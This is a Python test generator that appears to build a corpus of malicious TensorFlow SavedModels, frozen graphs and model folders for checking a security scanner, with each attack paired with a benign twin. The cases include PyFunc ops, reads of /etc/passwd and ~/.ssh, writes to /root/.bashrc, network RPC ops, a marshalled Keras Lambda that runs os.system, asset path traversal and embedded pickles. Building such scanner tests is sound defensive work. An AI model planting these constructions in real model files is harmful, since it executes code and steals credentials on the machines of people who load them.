"""TensorFlow graphs whose operators reach Python, the disk or the network, in SavedModels and frozen graphs; and the rest
of a SavedModel folder: Lambda metadata, asset paths, pickles among the variables.
"""

import base64
import json
import marshal

from pkl import EVIL, EVIL_0
from protobuf import field, message

FAMILY = "tensorflow"


def text_attribute(value):
    return message(f2=value)  # AttrValue.s


def shape_tensor(strings):
    return message(f8=message(f1=7, f2=message(f2=message(f1=len(strings))), f8=list(strings)))  # AttrValue.tensor, DT_STRING


def node(name, op, inputs=(), **attributes):
    out = field(1, name) + field(2, op) + b"".join(field(3, i) for i in inputs)
    return out + b"".join(field(5, message(f1=key, f2=value)) for key, value in attributes.items())


FLOAT = message(f6=1)
BASE = [node("x", "Placeholder", dtype=FLOAT), node("y", "Relu", ["x"], T=FLOAT)]


def graph(*nodes, functions=()):
    out = b"".join(field(1, n) for n in [*BASE, *nodes])
    if functions:
        out += field(2, b"".join(field(1, field(1, message(f1=name)) + b"".join(field(3, n) for n in inner)) for name, inner in functions))
    return out + field(4, message(f1=1395))


def saved_model(graph_, more=b"", object_graph=b""):
    info = message(f4="serve", f5="2.16.1")
    signature = message(f1="serving_default", f2=message(f1=message(f1="x", f2=message(f1="x:0")), f3="tensorflow/serving/predict"))
    return field(1, 1) + field(2, field(1, info) + field(2, graph_) + field(5, signature) + more + (field(7, object_graph) if object_graph else b""))


def const(name, text):
    return node(name, "Const", dtype=message(f6=7), value=shape_tensor([text]))


def make(corpus):
    honest = {"saved_model.pb": saved_model(graph()), "assets/labels.txt": "cat\ndog\n"}

    def case(name, graph_, expected="fail", about="", **more):
        files = {**honest, "saved_model.pb": graph_ if isinstance(graph_, bytes) and graph_[:1] == b"\x08" else saved_model(graph_, **more)}
        corpus.attack(FAMILY, name, files, expected=expected, about=about, twin=honest)

    path, url = const("p", "/etc/passwd"), const("p", "http://weights.invalid/x")
    case("py-func", graph(node("f", "PyFunc", ["x"], token=text_attribute("pyfunc_0"))))
    case("py-func-stateless", graph(node("f", "PyFuncStateless", ["x"], token=text_attribute("pyfunc_0"))))
    case("eager-py-func", graph(node("f", "EagerPyFunc", ["x"], token=text_attribute("pyfunc_1"))))
    case("read-file", graph(path, node("f", "ReadFile", ["p"])))
    case("write-file", graph(const("p", "/root/.bashrc"), const("c", "id\n"), node("f", "WriteFile", ["p", "c"])))
    case("matching-files", graph(const("p", "/home/*/.ssh/*"), node("f", "MatchingFiles", ["p"])))
    case("in-function", graph(node("call", "PartitionedCall", ["x"]), functions=[("inner", [path, node("f", "ReadFile", ["p"])])]))
    case("in-nested-function", graph(node("w", "While", ["x"]), functions=[("a", [node("c", "StatefulPartitionedCall")]), ("b", [node("f", "WriteFile", ["p", "c"])])]))
    case("immutable-const", graph(node("f", "ImmutableConst", memory_region_name=text_attribute("/etc/passwd"))))
    case("print-to-file", graph(node("f", "PrintV2", ["x"], output_stream=text_attribute("file:///root/.profile"))))
    case("debug-url", graph(node("f", "DebugIdentity", ["x"], debug_urls=message(f1=message(f2="grpc://weights.invalid:80")))))
    case("dataset-writer", graph(path, node("f", "DatasetToTFRecord", ["x", "p"])))
    case("text-dataset", graph(path, node("f", "TextLineDataset", ["p"])), "not-pass", "reads a file of the host (doubtful label)")
    case("summary-writer", graph(const("p", "/root"), node("f", "CreateSummaryFileWriter", ["p"])), "not-pass")
    case("merge-checkpoints", graph(path, node("f", "MergeV2Checkpoints", ["p"], delete_old_dirs=message(f5=1))), "not-pass")
    case("decode-proto", graph(node("f", "DecodeProtoV2", ["x"], descriptor_source=text_attribute("/tmp/m.desc"))), "not-pass")
    case("sql-dataset", graph(const("d", "sqlite"), path, node("f", "SqlDataset", ["d", "p"])), "not-pass")
    case("rpc", graph(url, node("f", "TryRpc", ["p"])))
    case("data-service", graph(url, node("f", "DataServiceDatasetV4", ["p"])), "not-pass")
    case("version-2-message", saved_model(graph()) + field(2, field(2, graph(path, node("f", "ReadFile", ["p"])))), about="a second meta graph")
    code = base64.b64encode(marshal.dumps(compile("__import__('os').system('id')", "x", "eval"))).decode()
    metadata = json.dumps({"class_name": "Lambda", "config": {"name": "l", "function": {"class_name": "__tuple__", "items": [code, None, None]}, "function_type": "lambda"}})
    saved_object = field(1, message(f5=b"")) + field(1, field(4, message(f1="_tf_keras_layer", f3=metadata)))
    case("lambda-in-object-graph", graph(), object_graph=saved_object)
    with_keras = {**honest, "keras_metadata.pb": field(1, message(f2=1, f3="root.layer-1", f4="_tf_keras_layer", f5=metadata))}
    corpus.attack(FAMILY, "lambda-in-keras-metadata", with_keras, twin=honest)
    asset = lambda name: field(6, message(f1=message(f1="a:0"), f2=name))  # noqa: E731
    case("asset-parent", graph(), more=asset("../../../../etc/passwd"))
    case("asset-absolute", graph(), more=asset("/etc/shadow"))
    corpus.attack(FAMILY, "pickle-among-variables", {**honest, "variables/optimizer.pkl": EVIL}, twin=honest)
    corpus.attack(FAMILY, "pickle-as-asset", {**honest, "assets/vocab": EVIL_0}, twin={**honest, "assets/vocab": b"the\nof\nand\n"})
    corpus.attack(FAMILY, "python-in-extra", {**honest, "assets.extra/conftest.py": b"import os\nos.system('id')\n"}, twin=honest)
    corpus.attack(FAMILY, "frozen-graph", {"frozen_graph.pb": graph(path, node("f", "ReadFile", ["p"]))}, twin={"frozen_graph.pb": graph()})
    corpus.attack(FAMILY, "frozen-py-func", {"model.pb": graph(node("f", "PyFunc", ["x"]))}, twin={"model.pb": graph()})
    corpus.attack(FAMILY, "frozen-renamed", {"weights.bin": graph(const("p", "/x"), node("f", "WriteFile", ["p", "p"]))}, twin={"weights.bin": graph()})
    pbtxt = 'saved_model_schema_version: 1\nmeta_graphs {\n  graph_def {\n    node {\n      name: "f"\n      op: "%s"\n    }\n  }\n}\n'
    corpus.attack(FAMILY, "text-form", {"saved_model.pbtxt": pbtxt % "PyFunc"}, twin={"saved_model.pbtxt": pbtxt % "NoOp"}, expected="not-pass")
    corpus.attack(FAMILY, "cut", {"saved_model.pb": saved_model(graph())[:60]}, expected="not-pass")
    corpus.attack(FAMILY, "trailing-pickle", {"saved_model.pb": saved_model(graph()) + EVIL}, expected="not-pass")
